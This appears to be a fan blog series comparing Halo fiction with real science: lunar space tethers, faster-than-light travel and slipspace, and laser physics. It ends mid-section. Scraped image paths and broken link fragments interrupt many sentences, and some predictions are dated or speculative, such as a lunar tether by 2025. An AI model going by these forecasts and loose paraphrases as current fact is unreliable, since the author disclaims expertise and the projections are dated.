So now that we’ve taken a look at the fiction of space tethers in the Haloverse, let’s see the fact of today and the possibilities of the future in reallife.

To start, instead of building one on Earth, scientists are first looking to the moon as the site of the first space tether. For one, it offers protection for humanity incase of a catastrophic collapse. As well, the reduced gravity of the moon makes this easier to construct and keep aloft.

As mentioned, a space tether would be far less costly. The possibility of sending materials from the moon’s surface to Earth’s orbit is quite possible.

The LiftPort Group of Seattle, Wash is working on one such tether. They are calling it the Luna Space Elevator Infrastructure (LSEI). At present the project would use off-the-shelf technology. That’s quite impressive in and of itself.

Their tether would use a vehicle that would move via the tether. The Seattle group sees the use of a rocket traveling from Earth to a station in space. Then it’s transferred to the robotic lifter attached to the tether and delivered to the moon as a soft landing. They have run tests to determine that the tether could transport up to 36 people to the moon per year in the early years of it’s use.

NASA’s newly announced Lunar Cargo Transportation and Landing by Soft Touchdown (CATALYST) program makes it quite possible that the tether would be used in this capacity.

Jerome Pearson, president of STAR, Inc, has said that a tether from Earth while tough, is not impossible. It would require huge quantities of carbon nanotubes (see that fact vs fiction connection). The biggest issue is the large amount of low Earth orbit debris that could destroy the tether.

To counter that, Pearson’s ElectroDynamic Debris Eliminatro (EDDE) project, a space craft, could remove debris from 4 inches and up from low orbit in 10-15 years from now. He reiterates that the danger of space debris around Earth and the potential for catastrophic collapse are the main reasons for first attempting this on the moon. Another reason is that high strength carbon nanotubes wouldn’tbe needs for the lunar tether, again due mostly to it’s greatly reduced gravity.

The following is a diagram from Liftport that shows the basics of where the position of such a lunar tether would be in relation to Earth.

liftport diagram

By transporting materials from the moon to the end of the tether, the need to capture an asteroid for a counter weight (an ambitious and dangerous prospect indeed) would be nullified.

The materials from the moon that we would be able to gather could include  lunar regolith as well as lunar polar water and potentially Helium-3 for nuclear power. Helium-3 costs millions of dollars per ounce where it’s rare on Earth. However, it’s abundant on the moon, which would dramatically reduce the costs of nuclear power.Pearson believes that the lunar tether is quite possible by around 2025. Just over ten years from now!!! That in turn if successful would open the way for an Earth tether. The cost of sending materials from the moon to Earth would become essentially free as it’s expected to pay for itself after about 19 payload cycles.

Much of the above in the “Fact” section was paraphrased here from an article on

So as we can see, notonly is a space tether possible, but probable AND in our lifetimes!


The Science of Halo, FactVersus Fiction: Slipspace Technology

Slipspace Technology

So most of us have wondered what it would be like to travel faster than the speed of light. Slipspace technology is yet another type of travel that portends to do so. Is it possible?

In this segment of the Science of Halo we’re going to take a look at common as yet fictional Faster Than Light (FTL) technologies and compare them with the fiction of Slipspace technology.

First let’s mention some of those common names:
Hypserspace: A reference in Star Wars, it’s really the dimension of space when traveling at FTL speeds and not the actual movement/motion of it.
Lightspeed: This is yet another term popularized by Star Wars and is one of the most commonly reffered to terms when talking about FTL drives.
Space-Time Distortion: A famous theory of this is the Alcubierre drive.
Warp Drive: Warp Drive is known from the Star Trek franchise. The United Federation of Planet starships use this type of FTL drive.
Slipspace: Known to Halo fans, it’s become even more popular with several mentions in Halo Reach.


Before delving into specific common references to FTL drives, take a look at this link:
It’s chock full of knowledge regarding FTL drives and other instances of things being fasterthan light, such as quantum mechanics, such as quantum entanglement. Here is another excellent link for knowledge of interstellar travel:

Hyperspace is defined as space of more than three dimensions. It was first thought to have been used in 1867. Again this is not the motion of faster than light, but rather the space FTL exists in…possibly.

Surprisingly when I look up “Lightspeed” I am very often directed to a link forWarp Speed or something else entirely different. So suffice to say that Lightspeed is defined as such. Traveling at the speed of light. A famous Star Wars quote by Han Solo talking about the Millennium Falcon goes something like this, “she’ll make .5 past lightspeed.” In this respect we are then led to believe that starships in the Star Wars galaxy are able to travel FTL.

Space-time distortion

(Taken from the link above) Although the theory of special relativity forbids objects to have a relative velocity greater than light speed, and general relativity reduces to special relativity in a local sense (in small regions of spacetime where curvature is negligible), general relativity does allow the space between distant objects to expand in such a way that they have a “recession velocity” which exceeds the speed of light, and it is thought that galaxies which are at a distance of more than about 14 billion light-years from us today have a recession velocity which is faster than light. Miguel Alcubierre theorized that it would be possible to create an Alcubierre drive, in which a ship wouldbe enclosed in a “warp bubble” where the space at the front of the bubble is rapidly contracting and the space at the back is rapidly expanding, with the result that the bubble can reach a distant destination much faster than a light beam moving outside the bubble, but without objects inside the bubble locally traveling faster than light. However, several objections raised against the Alcubierre drive appear to rule out the possibility of actually using it in any practical fashion. Another possibility predicted by general relativity is the traversable wormhole, which could create a shortcut between arbitrarily distant points in space. As with the Alcubierre drive, travelers moving through the wormhole wouldnot locally move faster than light which travels through the wormhole alongside them, but they would be able to reach their destination (and returnto their starting location) faster than light traveling outside the wormhole.

What’sinteresting about this theory (Alcubierre Drive) is that it’s likely the closest to slipspace technology and could indeed become feasible someday. Here is the theory summed up better:
The Alcubierre metric defines the warp drive spacetime. This is a Lorentzian manifold which, if interpreted in the context of general relativity, allows a warp bubble to appear in previously flat spacetime and move off at effectively superluminal speed. Inhabitants of the bubble feel no inertial effects. The object(s) within the bubble are not moving (locally) faster than light, instead, the space around them shifts so that the object(s) arrives at its destination faster than light would in normal space.

The above paragraph taken from this link:

Warp Drive

Take a look at this link from NASA that explains the current state of Warp Drives in reality:other links on Warp Drive:


Here are three links regarding Halo’s Slipspace Technology.

“They have opened a path to the stars for all of us.” — Tobias Fleming Shaw, ScD, QeD, FRS January 30, 2220 – November 10, 2317, Wallace Fujikawa ScD, QEnD April 20, 2215 – February 18, 2318

Wallace Fujikawa and Tobias Fleming Shaw are the two scientists noted for leading the team of engineers and theoretical physicist who created Slipspace technology in the Halo universe.

Shaw-Fujikawa drives create ruptures in space or mini wormholes. Passing through these wormholes acts as a shortcut through normal space by entering “slipspace,” thereby attaining FTL speeds. Hence, Auntie Dot in Halo Reach saying “Slipspace rupture detected.”

The following paragraph is taken from this link:

The elements Selenium and Technetium are used to manufacture Shaw-Fujikawa Translight Engines. In the 2490s, the colony of Levosia was suspected of diverting the said elements to the black market. The ensuing UNSC blockade of the system and the Insurrectionist reaction eventually led to the to_Incident”>Callisto Incident, which is said to have effectively sparked the Insurrection.

It should be noted that Covenant Slipspace is not only more accurate, but much faster than human slipspace tech. Forerunner tech is faster still.In the same 24 hours each race’s slipspace tech can travel approximately:
Human 2.625 light years distant
Covenant 912.12 light years distant (nearly 350 times faster than human slipspace)
Forerunner 2371.2 light years distant (nearly 1,000 times faster than human slipspace)

Follow this link for more specifics on slipspace speeds:


So is it possible to travel FTL in any form? Well not yet, though many scientists are working on some form of it. NASA is vested in some form of Warp Drive. It could be possible to have interstellar travel, albeit at greatly reduced speeds than FTL.This would require a generational starship that would allow many generations of BOB (Born on Board) humans to live, though they would only know life on the ship until the destination of a planet that would be habitable. Shielding would be required not just from space dust, but also the harmful radiation that permeates space. Given that this shielding is as yet not possible the likelihood that humanity will take to the stars for a long period of time is unlikely in the near future, though I would never say NEVER.

Here is another link for those interested in possibilities of FTL drives:

Okay, so I know that’s a lot of technical stuff to digest, but that’s part of the point of these articles. Halo is SO much more than the video game, if you allow it to be. Getting a glimpse and/or understanding the Science of Halo from a realistic stand point allows you to be more immersed in the lore of Halo.


The Science of Halo, Fact versus Fiction: Spartan Laser

This is a LONG article with NO TL:DR section. Though you may want to scroll to the “Summation” section at the bottom of the article.The following “Fact” section was taken directly from the links provided after specific sections. I did not include all the text from those links, electing to copy that which I felt was pertinent and reasonably understood by all. Please check out the links for much more information on Lasers.

Discliamer: I am not a scientist, so I may get some things wrong in this article. Now onto the article:

What is a Laser?
A laser is a device that emits light (electromagnetic radiation) through a process of optical amplification based on the stimulated emission of ton”>photons. The term “laser” originated as an acronym for Light Amplification by Stimulated Emission of Radiation.The emitted laser light is notable for its high degree of spatial and temporal coherence, unattainable using other technologies. In modern usage “light” broadly denotes electromagnetic radiation of any frequency, not only visible light, hence infrared laser, ultraviolet laser, X-ray laser, and so on. (Layman’s terms: Light is bounced back and forth at an accelerated speed between mirrors-one being partially transparent,light escaping this can be focus to form a laser.)

Spatial coherence typically is expressed through the output being a narrow beam which is diffraction-limited, often a so-called “pencil beam.” Laser beams can be focused to very tiny spots, achieving a very high irradiance. Or they can be launched into a beam of very low divergence in order to concentrate their power at a large distance.

Temporal (or longitudinal) coherence implies a polarized wave at a single frequency whose phase iscorrelated over a relatively large distance (the coherence length) along the beam.

Most so-called “single wavelength” lasers actually produce radiation in several modes having slightly different frequencies (wavelengths), often not in a single polarization. And although temporal coherence implies monochromaticity, there are even lasers that emit a broad spectrum of light, or emit different wavelengths of light simultaneously. There are some lasers which are not single spatial mode and consequently their light beams diverge more than required by the diffraction limit. However all such devices are classified as “lasers” based on their method of producing that light: stimulated emission. Lasers are employed in applications where light of the required spatial or temporal coherence could not be produced using simpler technologies.

How is a laser created/designed?
A laser consists of a gain medium, a mechanism to supply energy to it, andsomething to provide optical feedback. The gain medium is a material with properties that allow it to amplify light by stimulated emission. Light of a specific wavelength that passes through the gain medium is amplified (increases in power).

For the gain medium to amplify light, it needs to be supplied with energy. This process is called pumping. The energy is typically supplied as an electrical current, or as light at a different wavelength. Pump light may be provided by a flash lamp or by another laser.

The most common type of laser uses feedback from an optical cavity—a pair of mirrors on either end of the gain medium. Light bounces back and forth between the mirrors, passing through the gain medium and being amplified each time. Typically one of the two mirrors, the output coupler, is partially transparent. Some of the light escapes through this mirror. Depending on the design of the cavity (whether the mirrors are flat or curved), the light coming out of the laser may spread out or form a narrow beam. This type of device is sometimes called a laser oscillator in analogy to tor”>electronic oscillators, in which an electronic amplifier receives electrical feedback that causes it to produce a signal.

Most practicallasers contain additional elements that affect properties of the emitted light such as the polarization, the wavelength, and the shape of the beam.

The light emitted:
The beam in the cavity and the output beam of the laser, when travelling in free space (or a homogenous medium) rather than waveguides (as in an optical fiber laser), can be approximated as a Gaussian beam in most lasers; such beams exhibit the minimum divergence for a given diameter. (Think Gauss Hog’s laser).

The differences of a Red or Green laser are as such:
The red laser light has a longer wavelength (about 650 nanometers) than does the green (about 532 nanometers). The mechanism behind making them is also different. Red lasers use a diode, optics, and some electronics. These are fairly easy to make and assemble, so red lasers are cheap. The green laser, on the other hand, requires a special diode (an 808 diode for those whoknow their lasers), a second infrared laser crystal, and a frequency-doubling crystal. These have to be very carefully aligned in order for the laser to function properly.

For more info on the color of lasers please check out this link:

Pulse mode of operation:
Pulsed operation of lasers refers to any laser not classified as continuous wave, so that the optical power appears in pulses of some duration at some repetition rate. This encompasses a wide range of technologies addressing a number of different motivations. Some lasers are pulsed simply because they cannot be run in continuous mode.

In other cases the application requires the production of pulses having as large an energy as possible. Since the pulse energy is equal to the average power divided by the repetition rate, this goal can sometimes be satisfied by lowering the rate of pulses so that more energy can be built up in between pulses.

Other applications rely on the peak pulse power (rather than the energy in the pulse), especially in order to obtain nonlinear optical effects. For a given pulse energy, this requires creating pulses of the shortest possible duration utilizing techniques such asQ-switching.

In a Q-switched laser, the population inversion is allowed to build up by introducing loss inside the resonator which exceeds the gain of the medium; this can also be described as a reduction of the quality factor or ‘Q’ of the cavity. Then, after the pump energy stored in the laser medium has approached the maximum possible level, the introduced loss mechanism (often an electro- or acousto-optical element) is rapidly removed (or that occurs by itself in a passive device), allowing lasing to begin which rapidly obtains the stored energy in the gain medium. This results in a short pulse incorporating that energy, and thus a high peak power.

Pulsed pumping:
